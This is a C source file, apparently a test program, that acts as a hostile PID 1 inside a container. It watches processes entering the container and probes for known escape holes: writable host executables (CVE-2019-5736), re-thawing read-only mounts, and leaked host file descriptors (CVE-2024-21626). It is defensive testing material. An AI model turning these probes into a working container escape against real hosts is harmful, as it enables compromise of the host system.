/* A hostile PID 1 that lies in wait for whoever enters its container: of each new process it tries
 * to open the program for writing, now and later through a descriptor it keeps (CVE-2019-5736), to
 * make the mount of the program writable again, and to get at open files of the host
 * (CVE-2024-21626).
 *
 *     fdwatch FILE
 *
 * Watches until the file is there. Prints one line a find: "EXE-WRITABLE PID", "EXE-THAWED PID",
 * "HOST-FD PID TARGET"; "caught" once when it has seen a hundred and could open a program of the
 * host. A last line "seen N" says how many processes were looked at, "foreign N" how often a
 * program that is not the container's could be opened at all. Ends with 0. */
#include "attack/host-fds.h"

#include "base/macro.h"

#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEPT_MAX 512

/* Layout of mount_setattr(2)'s argument, which not every libc has. */
struct thaw {
        uint64_t set, clear, propagation, userns_fd;
};

static int kept_fd[KEPT_MAX];
static unsigned n_kept, n_seen, n_foreign;
static dev_t root_device;

/* A program of the container's own file system is its own affair. */
static bool is_own(int fd)
{
        struct stat st;

        return fstat(fd, &st) < 0 || st.st_dev == root_device;
}

static void try_write(int pid, int fd)
{
        char path[64];
        int write_fd;

        (void) snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        write_fd = open(path, O_RDWR | O_CLOEXEC);
        if (write_fd < 0)
                return;
        printf("EXE-WRITABLE %d\n", pid);
        (void) close(write_fd);
}

static void watch_exe(int pid)
{
        struct thaw thaw = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
        char path[64];
        int fd;

        (void) snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        if (is_own(fd) || n_kept == KEPT_MAX) {
                (void) close(fd);
                return;
        }
        n_foreign++;
        if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &thaw, sizeof(thaw)) == 0)
                printf("EXE-THAWED %d\n", pid);
        try_write(pid, fd);
        kept_fd[n_kept++] = fd;
}

static void watch_all(void)
{
        DIR *d = opendir("/proc");
        struct dirent *de;

        while (d && (de = readdir(d))) {
                int pid = atoi(de->d_name);

                if (pid <= 1)
                        continue;
                n_seen++;
                watch_exe(pid);
                print_host_fds(pid, root_device, true);
        }
        if (d)
                (void) closedir(d);
}

int main(int argc, char **argv)
{
        bool has_caught = false;
        struct stat st;

        (void) setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc != 2 || stat("/", &st) < 0)
                return 1;
        root_device = st.st_dev;
        while (access(argv[1], F_OK) < 0) {
                watch_all();
                if (!has_caught && n_foreign > 0 && n_seen > 100) {
                        has_caught = true;
                        printf("caught\n");
                }
                for (unsigned i = 0; i < n_kept; i++)
                        try_write(0, kept_fd[i]);
                while (n_kept > 16)
                        (void) close(kept_fd[--n_kept]);
        }
        printf("seen %u\nforeign %u\n", n_seen, n_foreign);
        return 0;
}
